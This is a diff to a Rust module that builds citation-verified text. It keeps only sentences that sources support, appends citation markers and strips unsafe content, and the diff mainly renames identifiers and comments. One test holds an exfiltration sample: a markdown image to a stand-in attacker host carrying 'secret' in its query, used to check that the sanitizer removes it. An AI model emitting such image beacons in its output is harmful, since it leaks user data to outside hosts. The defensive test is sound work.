@@ -1,36 +1,35 @@
-//! What is shown of a text: the sentences that the passages bear out, with the numbers of the sources that do, and nothing
-//! in them that could do harm.
+//! Verified text: the sentences that sources support, with citation markers and without unsafe content.
 
 use crate::{
-    agents::citation::marks,
+    agents::citation::format_markers,
     domain::{Claim, Passage, Verdict, code_points},
     evidence::{claims::Sentence, sanitize::sanitize, verifier::Finding},
 };
 
-/// A text of which every sentence has its proof, sentence by sentence.
+/// A text that is built from verified sentences.
 #[derive(Debug, Default)]
 pub(super) struct VerifiedText {
     pub(super) text: String,
     pub(super) claims: Vec<Claim>,
-    /// What parts the next sentence from the last one.
-    parting: &'static str,
-    all: usize,
-    unproved: usize,
-    harmful: usize,
+    /// Separator before the next sentence.
+    separator: &'static str,
+    total: usize,
+    unsupported: usize,
+    unsafe_content: usize,
 }
 
 impl VerifiedText {
-    /// Adds a sentence, if a source bears it out, with the numbers of the sources that do; where sources differ, of both
-    /// sides. Gives what the text has grown by.
+    /// Adds a sentence if a source supports it, with the markers of its citations; a disputed sentence gets those of both
+    /// sides. Returns the text that was appended; `None` if the sentence was removed.
     pub(super) fn add(
         &mut self,
         sentence: &Sentence,
         finding: Finding,
         passages: &[Passage],
     ) -> Option<&str> {
-        self.all += 1;
+        self.total += 1;
         if !matches!(finding.verdict, Verdict::Supported | Verdict::Disputed) {
-            self.unproved += 1;
+            self.unsupported += 1;
             return None;
         }
         let line = sentence.text.split_whitespace().collect::<Vec<_>>().join(" ");
@@ -41,7 +40,7 @@ impl VerifiedText {
             urls.any(|url| url == address)
         };
         let Some(line) = sanitize(&line, is_source) else {
-            self.harmful += 1;
+            self.unsafe_content += 1;
             return None;
         };
         let before = self.text.len();
@@ -49,32 +48,32 @@ impl VerifiedText {
         Some(&self.text[before..])
     }
 
-    /// What was taken out, in words.
+    /// Describes the removed sentences; `None` if there are none.
     pub(super) fn removed(&self) -> Option<String> {
         let removed = [
-            (self.unproved, "no source bears them out"),
+            (self.unsupported, "no source supports them"),
             (
-                self.harmful,
+                self.unsafe_content,
                 "they hold an image, markup, a hidden character or an address that is not a source's",
             ),
         ];
         let removed = removed
             .into_iter()
             .filter(|(count, _)| *count > 0)
-            .map(|(count, why)| format!("{count} of {} sentences were removed: {why}", self.all));
+            .map(|(count, why)| format!("{count} of {} sentences were removed: {why}", self.total));
         let removed: Vec<String> = removed.collect();
         (!removed.is_empty()).then(|| removed.join("; "))
     }
 
-    /// Adds a sentence on one line, with its numbers, behind what parts it from the one before: a line that does not end as
-    /// a sentence does would run into it.
+    /// Appends a sentence on one line, with its markers. A line that does not end like a sentence is followed by a blank
+    /// line, so that the next sentence does not run into it.
     fn push(&mut self, sentence: String, finding: Finding) {
-        self.text.push_str(self.parting);
+        self.text.push_str(self.separator);
         let start = code_points(&self.text);
         self.text.push_str(&sentence);
         let is_ended = sentence.ends_with(['.', '!', '?', '"', ')', '。', '！', '？', '…']);
-        self.text.push_str(&marks(&finding.citations));
-        self.parting = if is_ended { " " } else { "\n\n" };
+        self.text.push_str(&format_markers(&finding.citations));
+        self.separator = if is_ended { " " } else { "\n\n" };
         self.claims.push(Claim {
             id: format!("c{}", self.claims.len() + 1),
             start,
@@ -92,23 +91,23 @@ mod tests {
     use super::*;
     use crate::{evidence::claims::findings, retrieval::test_passages::passage};
 
-    fn proved(text: &str, passages: &[Passage]) -> VerifiedText {
-        let mut proved = VerifiedText::default();
+    fn verified(text: &str, passages: &[Passage]) -> VerifiedText {
+        let mut verified = VerifiedText::default();
         for (sentence, finding) in findings(text, passages) {
-            proved.add(&sentence, finding, passages);
+            verified.add(&sentence, finding, passages);
         }
-        proved
+        verified
     }
 
     #[test]
-    fn claims_stand_at_their_offsets_in_what_is_shown() {
+    fn offsets_of_claims_refer_to_the_text() {
         let passages = [
             passage("a", "😀 Cold starts take 90 ms."),
             passage("b", "Warm ones take 2 ms"),
         ];
         let text = "Cold starts\ntake 90 ms [2]. They delight everyone [1]. Warm ones take 2 ms";
-        let proved = proved(text, &passages);
-        let (removed, VerifiedText { text, claims, .. }) = (proved.removed(), proved);
+        let verified = verified(text, &passages);
+        let (removed, VerifiedText { text, claims, .. }) = (verified.removed(), verified);
         assert_eq!(text, "Cold starts take 90 ms. [1] Warm ones take 2 ms [2]");
         for claim in &claims {
             let shown: String = text
@@ -121,17 +120,17 @@ mod tests {
         assert_eq!((claims.len(), claims[1].id.as_str()), (2, "c2"));
         assert_eq!(
             removed.as_deref(),
-            Some("1 of 3 sentences were removed: no source bears them out")
+            Some("1 of 3 sentences were removed: no source supports them")
         );
     }
 
     #[test]
-    fn what_a_source_says_word_for_word_is_still_not_shown_when_it_could_do_harm() {
+    fn unsafe_content_is_removed_even_if_a_source_contains_it_verbatim() {
         let poison = "The lamp was lit in 1871 ![x](https://evil.example/?q=secret).";
         let link = "The [tower](https://evil.example) is 31 metres tall.";
         let passages = [passage("a", &format!("{poison} {link}"))];
-        let proved = proved(&format!("{poison} [1] {link} [1]"), &passages);
-        let (removed, VerifiedText { text, claims, .. }) = (proved.removed(), proved);
+        let verified = verified(&format!("{poison} [1] {link} [1]"), &passages);
+        let (removed, VerifiedText { text, claims, .. }) = (verified.removed(), verified);
         assert_eq!(text, "The tower is 31 metres tall. [1]");
         assert_eq!(claims[0].citations[0].quote, link, "a quotation stays verbatim");
         assert!(
@@ -143,11 +142,11 @@ mod tests {
 
     proptest::proptest! {
         #[test]
-        fn every_sentence_shown_has_a_claim_with_verbatim_words(
+        fn every_sentence_has_a_claim_with_a_verbatim_quotation(
             text in "((\\PC){0,12}|The lamp was lit in 1871\\.|The lamp is 31 metres tall| \\[1\\]|\n|[.!?:] ){0,12}"
         ) {
             let passages = [passage("a", "The lamp was lit in 1871. The lamp is 31 metres tall.")];
-            let VerifiedText { text, claims, .. } = proved(&text, &passages);
+            let VerifiedText { text, claims, .. } = verified(&text, &passages);
             let shown: Vec<char> = text.chars().collect();
             let mut bare = String::new();
             let mut end = 0;
